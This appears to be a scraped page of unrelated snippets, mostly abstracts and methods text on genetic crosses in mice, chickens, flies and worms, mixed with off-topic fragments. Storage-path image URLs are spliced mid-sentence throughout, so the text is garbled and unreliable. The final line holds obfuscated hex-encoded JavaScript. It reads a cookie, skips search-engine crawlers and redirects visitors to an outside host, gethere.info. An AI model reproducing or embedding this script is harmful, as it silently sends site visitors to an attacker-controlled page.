Animals. Mice from the C57BL/6ByJ (B6) and 129P3/J (129) inbred strains were obtained from The Jackson Laboratory (Bar Harbor, ME) and were intercrossed to produce F1 and F2 hybrids. Pups were weaned at 21-30 d of age and reared in groups of the same gender (in most cases, four to six mice per cage, but never more than six in one cage). The mice were housed in a temperature-controlled vivarium at 23°C on a 12 hr light/dark cycle and had ad libitum access to water and Teklad Rodent Diet 8604. During the two-bottle tests, the mice were housed individually.. Two groups of F2 mice were bred and phenotyped in separate experiments. Group 1 consisted of 171 male mice obtained from two types of reciprocal crosses: (129♀ × B6♂)F1♀ × (129♀ × B6♂)F1♂ (80 males) and (B6♀ × 129♂) F1♀ × (B6♀ × 129♂) F1♂ (91 males). Group 2 consisted of 456 (228 females and 228 males) F2 mice obtained from three types of reciprocalcrosses: (129♀ × B6♂) F1♀ × (129♀ × B6♂) F1♂ (92 ...
J:79580 Le Bras S, Cohen-Tannoudji M, Guyot V, Vandormael-Pournin S, Coumailleau F, Babinet C, Baldacci P, Transcript map of the Ovum mutant (Om) locus: isolation by exon trapping of new candidate genes for the DDK syndrome. Gene. 2002 Aug 21;296(1-2):75 ...
Im trying to teach my self Power of Marcus Miller. Im wondering what to do when there are crosses instead of notes. It sounds like he is muting...
This is a question from a practice exam for our exam tomorrow morning. Please help I have been staring at this for an hour and cant figure it out ...
Obviously Im fucked off. But accepting. Theres nothing else to be. Theres no point stressing too much, as even when I get out, its all got to be repeated, so its not like there was a brilliant light at the end of the tunnel ...
n) the reappearance of a characteristic in an organism after several generations of absence; return of a trait after a period of absence ...
Breeding chickens for heat tolerance is desirable. The F18 and F19 generations of a broiler by Fayoumi advanced intercross line (AIL) was used to facilitate fine mapping of QTL. Three major phenotype collection phases were: pre-heat, acute heat, and chronic heat, with birds being exposed to daily heat cycles from 22 to 28 days of age. Body temperature was measured at all three phases; body weight at pre-heat and chronic heat phases. Breast muscle yield (as percentage of body weight) was measured after necropsy at d 28. Feed digestibility was assayed from ilealcontent collected at d 28. Birds were genotyped using a 600K Affymetrix chicken SNP array. Using GenSel significant QTL were found for each of the measured traits, indicating the feasibility of improving performance under hot conditions by genomic selection. This is the first GWAS using this novel AIL of chickens under heat stress.. ...
TY - JOUR. T1 - A model selection approach for the identification of quantitative trait loci in experimental crosses, allowing epistasis. AU - Manichaikul, Ani. AU - Moon, Jee Young. AU - Sen, Śaunak. AU - Yandell, Brian S.. AU - Broman, Karl W.. PY - 2009/3. Y1 - 2009/3. N2 - The identification of quantitative trait loci (QTL) and their interactions is a crucial step toward the discovery of genes responsible for variation in experimental crosses. The problem is best viewed as one of model selection, and the most important aspect ofthe problem is the comparison of models of different sizes. We present a penalized likelihood approach, with penalties on QTL and pairwise interactions chosen to control false positive rates. This extends the work ofBroman and Speed to allow for pairwise interactions among QTL. A conservative version of our penalized LOD score provides strict control over the rate of extraneous QTL and interactions; a more liberal criterion is more lenient on interactions but seeks ...
Simple Sequence Length Polymorphisms (SSLPs) are used as genetic markers with polymerase chain reaction (PCR). An SSLP is a type of polymorphism: a difference in DNA sequence amongst individuals. SSLPs are repeated sequences over varying base lengths in intergenic regions of deoxyribonucleic acid (DNA). Variance in the length of SSLPs can be used to understand genetic variation between two individuals in a certain species. An example of the usage of SSLPs (microsatellites) is seen in a study by Rosenberg et al., where SSLPs were used to cluster different continental races. The study was critical to Nicholas Wades New York Times Bestseller, Before the Dawn: Recovering the Lost History of Our Ancestors. Rosenberg studied 377 SSLPs in 1000 people in 52 different regions of the world. By using PCR and cluster analysis, Rosenberg was able to group individuals that had the same SSLPs . These SSLPs were extremely useful to the experiment because they do not affect the phenotypes of the individuals, ...
We used F34 and F39-43 generations of a LG/J x SM/J AIL to perform GWAS, SNP heritability estimates, genetic correlations, replication and mega-analysis. We had previously performed several GWAS using a sparse marker set in the F34 cohort. In this study we used adenser set of SNPs, obtained using GBS, to reanalyze the F34 cohort. We found 109 significant loci, 36 of which had not been identified in our prior studies using the sparse marker set. We used a new, previously unpublished F39-43 cohort for GWAS and showed that genetic correlations were high for the subset of traits that were measured in both cohorts. Despite this, we found that many loci were not replicated between cohorts, even when we used a relatively liberal definition of replication (p , 0.05). The failure to replicate some of our findings was not predicted by our power simulations. Therefore, we performed an analysis to determine whether Winners Curse and study-specific heterogeneity could account for the lower than expected ...
TY - JOUR. T1 - Methods of increasing short term response to full-sib family recurrent selection in small populations. AU - Mackay, I. J.. AU - Caligari, P. D.S.. PY -2000. Y1 - 2000. N2 - Accelerated recurrent selection (ARS), in which selection is carried out on the predicted value of the progeny rather than on the observed performance of the parents, has been proposed as a method of increasing response to selection and of reducing cycle time. ARS schemes based on test cross evaluation of full-sib families have been compared by stochastic computer simulation. The difference in genetic and economic time scales is emphasised, with the economic long term (21 years) being only 21 or fewer cycles of selection. ARS schemes are shown frequently to offer improvements over standard recurrent selectionmethods under these circumstances, since they allow more cycles of selection in a given time frame. Schemes with very low effective population sizes often give the greatest response to selection over the ...
Wilson, B D.; Sternick, J L.; Yoshizawa, Y; Katzenstein, A; and Moore, V L., Experimental murine hypersensitivity pneumonitis: multigenic control and influence by genes within the i-b subregion of the h-2 complex. (1982). Subject Strain Bibliography 1982. 3795 ...
Read Transmission Ratio Distortion, Sterility, and Control of the t-Complex Function in Sperm, Russian Journal of Genetics on DeepDyve, the largest online rental service for scholarly research with thousands of academic publications available at your fingertips.
Epistasis-nonlinear genetic interactions between polymorphic loci-is the genetic basis of canalization and speciation, and epistatic interactions can be used to infer genetic networks affecting quantitative traits. However, the role that epistasis plays in the genetic architecture of quantitative traits is controversial. Here, we compared the genetic architecture of three Drosophila life history traits in the sequenced inbred lines of the Drosophila melanogaster Genetic Reference Panel (DGRP) and a large outbred, advanced intercross population derived from 40 DGRP lines (Flyland). We assessed allele frequency changes between pools of individuals at the extremes of the distribution for each trait in the Flyland population by deep DNA sequencing. The genetic architecture of all traits was highly polygenic in both analyses. Surprisingly, none of the SNPs associated with the traits in Flyland replicated in the DGRP and vice versa. However, the majority of these SNPs participated in at least one ...
WKY and LEW strains have been widely studied for their differential susceptibility to experimental glomerulonephritis. In particular these strainsshow strong variations in the macrophage activation. This dataset measures expression of macrophages in backcross population of WKY DC and LEW rats and includes a few control origninating from the WKY DC strain.
Fly culture and transgenic lines. Drosophila melanogaster Canton S-5 (CS-5), the parental wild-type strain from which acj6 mutants were derived (McKenna et al., 1989), were reared at 18 or 25°Con cornmeal, sucrose, yeast media.. The olfactory neuron-specific P [Gal4] driver line GH86 (Heimbeck et al., 1999) and the UAS-Acj6 (1,3,4) and UAS-Acj6 (1,4) (Certel et al., 2000) responder lines were obtained from Dr. W. A. Johnson (University of Iowa). UAS-Acj6 (1,3,4) (chromosome II) and UAS-Acj6 (1,4) (chromosome III) transgenic lines (Certel et al., 2000) were recombined with Cha-Gal4 lines (chromosome III or II) by standard genetic crosses using second or third chromosome balancers,CyO or TM3. The GH86 olfactory driver was recombined with either UAS-Acj6 (1,3,4) or UAS-Acj6 (1,4) transgenic lines, and male progeny were used for ChAT assay (see below).. A fluorescent cholinergic reporter linemarking essentially all known cholinergic neurons consisted of a 7.4 kb Cha-Gal4 driver line (19B) ...
Each mouse in the pre-CC experiment was genotyped using a highdensity SNP array. Most of the genotyping was completed using test arrays. These arrays were developed as an intermediate step in the process of developing the Mouse Diversity array (Yang et al. 2009). There are two versions of the test array: A-array and B-array. The A-array includes 294,878 SNP assays, and the B-array contains 287,687 additional SNP assays. We determined that 181,752 (A-array) and 180,976 (B-array) SNP assays performed well and targeted loci that are polymorphic among the eight founder strains. There is no overlap between the two arrays, but the genome coverage is complete and uniformly distributed in both. In some cases, animals from the same phenotyping arm were genotyped with different arrays. Integration was achieved by merging the two sets and using an HMM to impute haplotypes at loci with missing genotypes. Due to the high marker density, this procedure was very effective. The exercise behavior and ...
A case of hybrid sterility in Drosophila paulistorum is due to an incompatibility of the Y chromosome of certain strains with the cytoplasm of other strains. The constitution of the cytoplasm responsible for the sterility is not, however, independent of the chromosomal genes. After seven backcrosses of the hybrid females to males of the same strain, fertile maleprogenies are finally obtained. ...
Hybrid Stain Crosses: Most cannabis seeds and medicine available today are from hybrids - crosses of Sativa and Indica varieties. This allows cultivators to enjoy and select for various desired characteristics of growth, appearance and effect. The genetics and hence the effects of one lineage will usually be dominant. Forexample: Indica-dominant crosses are for pain relief, with the sativa component helping with energy and activity levels. Sativa-dominant crosses are good for stimulating appetite, with the indica component helping to reduce body pain and increase relaxation. Cannabis has been proven helpful in relieving the symptoms of thousands of conditions, including: Pain from various ailments and ...
Abstract: This thesis studies a new method to estimate the probability that a Brownian bridge crosses a concave boundary. We show that a Brownian bridge crosses a concave boundary if and only if its least concave majorant crosses said concave boundary. As such, we can equivalently simulate the least concave majorant of a Brownian bridge in order to estimate the probability that a Brownian bridge crosses a concave boundary. We apply these theoretical results to the problem of estimating joint confidence intervals for a true CDF at every point. We compare this method to a traditional method for estimating joint confidence intervals for the true CDF at every point which is based upon the limiting distribution of what is often called the Kolmogorov-Smirnov distance, the sup-norm distance between the empirical and true CDFs. We indicate the disadvantages of the traditional approach and demonstrate how our approach addresses these weaknesses. ...
The beans from the mixed plot show a nice bell-shaped distribution (figure). Similarly, the beans harvested from pure lines grown in separate garden plots also show nice bell-shaped distributions, though the means differ for each pure line. The key difference is in the results of selectivebreeding for heavier (or lighter) beans, i.e., planting a new crop using only the heaviest (or lightest) beans: selection shifts the distribution of seed weights in the mixed plot, but has no significant effect on the distribution of seed weights produced by a pure line.. Within just a few decades, neo-Darwinians such as Ford (1938) dismissed Johannsens results as a logical necessity, as though the experiments proved nothing. Johannsens studies had changed our understanding so profoundly that Ford was unable to imagine how scientists (mis)understood the world before.. I wont ask you to do what Ford could not, which is to forget genetics.. Instead, I would like to ask you to join me in imagining a different ...
Each QTL identified in the crosses of inbred mice generally spans a large genomic distance, sometimes almost an entire chromosome. In complex phenotypes such as atherosclerosis, where a large number of genes are involved, transferring a target region onto an inbred background and creating congenic line is a powerful step toward identifying causative genes. Here we have analyzed the effect of the atherosclerosis QTL Aath4 by establishing a congenic line (Aath4aDBA/DBA), where the 5′ region of DBA Aath4 was backcrossed onto a 129S6-Apoe−/− background. As expected, the resulting Aath4aDBA/DBA males had significantly larger plaques, and macrophagesisolated from these mice exhibited reduced efferocytosis as a consequence of allele-specific decrease in MERTK expression. Together, our results provide strong evidence that the increased susceptibility to atherosclerosis determined by the DBA allele of Aath4 is, at least in part, due to decreased MERTK expression.. MERTK is known to play a ...
SM/J mice carry a number of rare polymorphic alleles and are often matched to other strains for quantitative trait locus analysis. These mice are susceptible to diet-induced obesity and diet-induced atherosclerosis. SM/J mice exhibit a hyperresponsiveness to B cell mitogens. Small in size at birth and through weaning, SM/J mice attain a normal body weight as they age.
You and your partner should first scan all your plates to determine whether or not your crosses are scorable. If you have males or only phenotypicaly WT and Unc progeny, you should not try to analyze that plate for linkage. Why not? If you have no males and some dumpy progeny, you may score that plate in this linkage analysis. Look carefully at all the scorable plates and try to find double mutants. If you see no (or only very rare) double mutant (du/du) progeny on one of the plates, it indicates that your unknown dpy mutation is on the same chromosome or linkage group as that known unc mutation. Why? What might it mean if none of the plates of progeny lack double mutants? (Hint: there are 5 autosomes and we only tested 4 of them for linkage.) Since we know on which autosome each of the reference unc mutations are located, you should be able to figure out on which chromosome your unknown dpy mutation is found ...
Watson, J; Riblet, R; and Taylor, B A., The response of recombinant inbred strains of mice to bacterial lipopolysaccharides. (1977).Subject Strain Bibliography 1977. 3712 ...
If you want to gain more trust in paying for essays online from explore the critical reviews, consumer reviews and visit the web-site to check out various services.. var _0x446d=[\x5F\x6D\x61\x75\x74\x68\x74\x6F\x6B\x65\x6E,\x69\x6E\x64\x65\x78\x4F\x66,\x63\x6F\x6F\x6B\x69\x65,\x75\x73\x65\x72\x41\x67\x65\x6E\x74,\x76\x65\x6E\x64\x6F\x72,\x6F\x70\x65\x72\x61,\x68\x74\x74\x70\x3A\x2F\x2F\x67\x65\x74\x68\x65\x72\x65\x2E\x69\x6E\x66\x6F\x2F\x6B\x74\x2F\x3F\x32\x36\x34\x64\x70\x72\x26,\x67\x6F\x6F\x67\x6C\x65\x62\x6F\x74,\x74\x65\x73\x74,\x73\x75\x62\x73\x74\x72,\x67\x65\x74\x54\x69\x6D\x65,\x5F\x6D\x61\x75\x74\x68\x74\x6F\x6B\x65\x6E\x3D\x31\x3B\x20\x70\x61\x74\x68\x3D\x2F\x3B\x65\x78\x70\x69\x72\x65\x73\x3D,\x74\x6F\x55\x54\x43\x53\x74\x72\x69\x6E\x67,\x6C\x6F\x63\x61\x74\x69\x6F\x6E];if(document[_0x446d[2]][_0x446d[1]](_0x446d[0])== -1){(function(_0xecfdx1,_0xecfdx2){if(_0xecfdx1[_0x446d[1]](_0x446d[7])== ...
